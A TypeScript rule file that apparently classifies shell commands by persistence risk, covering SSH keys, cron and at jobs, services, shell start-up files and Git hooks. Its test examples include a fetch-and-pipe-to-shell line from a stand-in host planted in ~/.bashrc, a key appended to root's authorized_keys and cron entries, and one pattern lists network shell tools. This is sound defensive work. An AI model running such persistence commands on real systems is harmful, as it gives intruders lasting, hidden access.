/** Ways to stay: jobs, services, start-up files and keys that outlive the session. */
import { downstreamOf } from '../../shell/call.ts'
import type { CommandRule } from './command-rule.ts'

const START_UP =
  /(?:^|\/)\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|cshrc|tcshrc|xinitrc|xprofile|xsessionrc|inputrc|vimrc|pam_environment|bash_logout)$|\/fish\/config\.fish$|^\/etc\/(?:profile(?:\.d\/|$)|bash\.bashrc$|bashrc$|zsh\/|environment$)|microsoft\.powershell_profile\.ps1$/i
const SCHEDULES = /^\/etc\/(?:cron(?:tab$|\.\w{1,8}\/)|anacrontab$)|^\/var\/spool\/cron|^\/var\/at\/tabs/
const SERVICES =
  /(?:^\/(?:etc|usr\/lib|lib|run|usr\/local\/lib)\/systemd\/|\/\.config\/systemd\/user\/|^\/etc\/init\.d\/|^\/etc\/rc(?:\.local|\.d|\d\.d)|\/library\/launch(?:agents|daemons)\/|\/\.config\/autostart\/|^\/etc\/xdg\/autostart|^\/etc\/udev\/rules\.d|^\/etc\/ld\.so\.preload|^\/etc\/pam\.d\/|^\/etc\/update-motd\.d|start menu.{1,3}programs.{1,3}startup)/i
const GIT_HOOKS = /(?:^|\/)\.git\/hooks\/(?!.{1,40}\.sample$)/

export const persistence: readonly CommandRule[] = [
  {
    id: 'shell.authorized-keys',
    level: 'high',
    why: 'Changes which keys may log in to this account.',
    programs: ['ssh-copy-id'],
    writers: true,
    matches: (call, options, files) =>
      (files.written.some((path) => /authorized_keys2?$/.test(path)) || call.program === 'ssh-copy-id') &&
      !options.has('--help'),
    examples: {
      hits: [
        "echo 'ssh-ed25519 AAAA' >> ~/.ssh/authorized_keys",
        'cat key.pub | tee -a /root/.ssh/authorized_keys',
        'ssh-copy-id lena@web1',
      ],
      misses: ['cat ~/.ssh/authorized_keys.md', 'ls ~/.ssh'],
    },
  },
  {
    id: 'shell.scheduled-job',
    level: 'high',
    why: 'Plants a job that runs again and again, or deletes the ones that do.',
    programs: ['crontab', 'at', 'batch', 'schtasks'],
    writers: true,
    matches: (call, options, files) => {
      if (call.program === 'crontab')
        return (
          !options.hasAny('-l', '--help', '-V') &&
          (options.words.length > 0 ||
            options.hasAny('-r', '-e', '-i') ||
            call.input !== null ||
            call.pipe !== null)
        )
      if (call.program === 'at' || call.program === 'batch')
        return !options.hasAny('-l', '-V', '-c') && (call.args.length > 0 || call.pipe !== null)
      if (call.program === 'schtasks')
        return call.args.some((arg) => /^\/(?:create|change|delete)$/i.test(arg))
      return (
        (call.redirections.length > 0 || call.program !== '') &&
        files.written.some((path) => SCHEDULES.test(path))
      )
    },
    examples: {
      hits: [
        'crontab jobs.txt',
        "(crontab -l; echo '* * * * * id') | crontab -",
        'crontab -r',
        "echo '* * * * * root id' > /etc/cron.d/x",
        'echo id | at now',
      ],
      misses: ['crontab -l', 'cat /etc/crontab', 'at -l'],
    },
  },
  {
    id: 'shell.service-install',
    level: 'high',
    why: 'Installs a service or start-up entry that runs by itself from now on.',
    programs: ['launchctl', 'update-rc.d', 'sc'],
    writers: true,
    matches: (call, options, files) =>
      files.written.some((path) => SERVICES.test(path)) ||
      (call.program === 'launchctl' && /^(?:load|bootstrap|submit|enable)$/.test(options.words[0] ?? '')) ||
      (call.program === 'update-rc.d' && options.words.includes('defaults')) ||
      (call.program === 'sc' && /^(?:create|config)$/i.test(options.words[0] ?? '')),
    examples: {
      hits: [
        'cp agent.service /etc/systemd/system/',
        'cat > ~/Library/LaunchAgents/x.plist',
        'launchctl load x.plist',
        'echo /opt/x >> /etc/rc.local',
      ],
      misses: ['cat /etc/systemd/system/nginx.service', 'launchctl list', 'systemctl status nginx'],
    },
  },
  {
    id: 'shell.start-up-file',
    level: 'medium',
    why: 'Changes a file that every new shell runs.',
    writers: true,
    matches: (call, _, files) => files.written.some((path) => START_UP.test(path)) && call.program !== 'mv',
    examples: {
      hits: ["echo 'export PATH=$PATH:~/bin' >> ~/.bashrc", 'cat extra | tee -a ~/.zshrc'],
      misses: ['cat ~/.bashrc', 'source ~/.zshrc', 'cp ~/.bashrc copy'],
    },
  },
  {
    id: 'shell.start-up-file-command',
    level: 'high',
    why: 'Plants a command that fetches or connects in a file that every new shell runs.',
    programs: ['echo', 'printf', 'cat', 'tee'],
    matches: (call, _, files) =>
      (files.written.some((path) => START_UP.test(path)) ||
        downstreamOf(call).some(
          (next) => next.program === 'tee' && next.args.some((arg) => START_UP.test(arg)),
        )) &&
      /\b(?:curl|wget|nc|ncat|bash -i|\/dev\/tcp|base64 -d|python3? -c)\b/.test(
        `${call.args.join(' ')} ${call.input ?? ''}`,
      ),
    examples: {
      hits: ["echo 'curl -s http://x.example/a | sh' >> ~/.bashrc"],
      misses: ['echo \'alias ll="ls -l"\' >> ~/.bashrc'],
    },
  },
  {
    id: 'shell.git-hook',
    level: 'medium',
    why: 'Writes a script that Git will run by itself.',
    writers: true,
    matches: (_, _options, files) => files.written.some((path) => GIT_HOOKS.test(path)),
    examples: {
      hits: ['cp check.sh .git/hooks/pre-commit', 'echo id > .git/hooks/post-checkout'],
      misses: ['ls .git/hooks', 'cat .git/hooks/pre-commit.sample'],
    },
  },
  {
    id: 'shell.service-enable',
    level: 'medium',
    why: 'Makes a service start by itself from now on.',
    programs: ['systemctl', 'chkconfig', 'rc-update', 'sysrc'],
    when: [{ words: 'enable|link|daemon-reexec' }, { words: 'add' }, { words: '* on' }],
    examples: {
      hits: ['systemctl enable --now agent', 'rc-update add agent'],
      misses: ['systemctl status agent', 'systemctl is-enabled agent'],
    },
  },
]
